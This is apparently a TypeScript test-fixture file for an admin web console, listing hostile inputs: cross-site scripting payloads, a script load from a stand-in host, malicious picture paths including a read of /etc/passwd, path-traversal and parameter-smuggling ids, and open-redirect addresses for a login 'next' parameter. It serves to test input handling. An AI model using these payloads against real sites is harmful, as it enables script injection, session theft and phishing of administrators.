/**
 * Thirty texts that try to become code: each calls `hurt()`, or loads something from elsewhere.test, wherever it is taken
 * for HTML, an attribute, an address, a style, a script or a template.
 */
export const payloads: readonly string[] = [
  '<script>hurt()</script>',
  '<script src=//elsewhere.test/x.js></script>',
  '<img src=x onerror=hurt()>',
  '<svg onload=hurt()>',
  '<svg><a xlink:href="javascript:hurt()"><text>press</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=hurt()>',
  '<template><b></b></template><template shadowrootmode=open><img src=x onerror=hurt()></template>',
  '<iframe srcdoc="<script>parent.hurt()</script>"></iframe>',
  '<object data="//elsewhere.test/x.swf"></object>',
  '<base href="//elsewhere.test/">',
  '<meta http-equiv=refresh content="0;url=//elsewhere.test/">',
  '<form action="javascript:hurt()"><button autofocus>press</button></form>',
  '<details open ontoggle=hurt()>',
  '<input autofocus onfocus=hurt()>',
  '<div style="animation:spin 1s" onanimationstart=hurt()>',
  '<a href="javascript:hurt()">press</a>',
  'javascript:hurt()',
  ' \u0001java\tscript:hurt()',
  'data:text/html,<script>parent.hurt()</script>',
  '" onmouseover="hurt()" x="',
  "'><svg onload=hurt()>",
  '</title><script>hurt()</script>',
  '</textarea><img src=x onerror=hurt()>',
  '--><img src=x onerror=hurt()><!--',
  '%3Cscript%3Ehurt()%3C/script%3E',
  '&lt;img src=x onerror=hurt()&gt; &#60;svg onload=hurt()&#62;',
  String.raw`\u003cimg src=x onerror=hurt()\u003e \x3csvg onload=hurt()\x3e`,
  '<scr\u0000ipt>hurt()</scr\u0000ipt>',
  "{{constructor.constructor('hurt()')()}} `${hurt()}` <%= hurt() %>",
  `'"--></title></textarea></style></script><svg/onload=hurt()>{{hurt()}}javascript:hurt()//*/*`,
];

/** Paths that a server may name a picture by, none of which is one: the console stands on this host. */
export const picturePaths = (host: string): readonly string[] => [
  'javascript:hurt()',
  'java\tscript:hurt()',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hurt()"/>',
  `blob:http://${host}/2b0c1c4e-0000-4000-8000-000000000000`,
  `filesystem:http://${host}/temporary/x.png`,
  'file:///etc/passwd',
  '//elsewhere.test/x.png',
  '/\\elsewhere.test/x.png',
  '\\\\elsewhere.test/x.png',
  '@elsewhere.test/x.png',
  '.elsewhere.test/x.png',
  ':80/x.png',
  'https:elsewhere.test/x.png',
  '/\t/elsewhere.test/x.png',
  'ht\ntps://elsewhere.test/x.png',
  `http://${host}@elsewhere.test/x.png`,
  `//somebody:secret@${host}/x.png`,
  `http://${host}.elsewhere.test/x.png`,
  'http://[elsewhere.test/x.png',
  'x.png?to=//elsewhere.test',
  '"><svg onload=hurt()>',
  '\ud800.png',
];

/** Ids that would be something else in an address if they were not written into it with care. */
export const ids: readonly string[] = [
  '../admins/accept',
  '//elsewhere.test/a',
  'a?status=approved',
  'a&user_id=somebody',
  'a#somebody',
  'a;jsessionid=1\\..\\b',
  '%2e%2e',
  '..%2f..%2fadmins%00',
  ' a+b c ',
  "ಅಆ🪷'(a)!*~",
];

/** One id that holds what is dangerous in all of them. */
export const worstId = '../a b?c=d&user_id=e#f;g=h\\i%2e%2e%2Fj+k://elsewhere.test:80/@l';

/** Ids that no address can hold: browsers take the first two for steps, and half a character cannot be written. */
export const impossibleIds: readonly string[] = ['.', '..', 'a\ud800'];

/** What somebody may write behind `next=` to lead an administrator away who has just signed in. */
export const returnAddresses = (host: string): readonly string[] => [
  'https://elsewhere.test/admin/users',
  'http:///elsewhere.test/admin/users',
  'https:elsewhere.test',
  'http:\\\\elsewhere.test\\admin\\users',
  'file:///admin/users',
  '//elsewhere.test/admin/users',
  ' //elsewhere.test/admin/users',
  '\u0000//elsewhere.test/admin/users',
  '/\\elsewhere.test/admin/users',
  '\\\\\\elsewhere.test',
  '/\t/elsewhere.test/admin/users',
  '/%2f/elsewhere.test/admin/users',
  'javascript:hurt()',
  'java\nscript:hurt()',
  `javascript://${host}/admin/users?%0Ahurt()`,
  'data:text/html,<script>hurt()</script>',
  `blob:http://${host}/admin/users`,
  'http://[elsewhere.test/admin/users',
  `http://${host}@elsewhere.test/admin/users`,
  `http://${host}.elsewhere.test/admin/users`,
  '/admin/..//elsewhere.test/admin/users',
  '/admin/dashboard//elsewhere.test',
  '/auth/login?next=//elsewhere.test',
  '/admins/logout',
];

/** Addresses that somebody without a session may be sent to; a name with a dot at their end would be a file to the site. */
export const oddAddresses: readonly string[] = [
  '/admin/%09/elsewhere',
  '/admin/%2e%2e//elsewhere.test/a',
  '//elsewhere.test/admin/users',
  '/admin/view-user/%E0%A4%A',
  '/admin/view-user/%3Cscript%3Ehurt()%3C%2Fscript%3E',
  '/admin/users?name=%22%3E%3Csvg%20onload=hurt()%3E&next=//elsewhere.test',
];
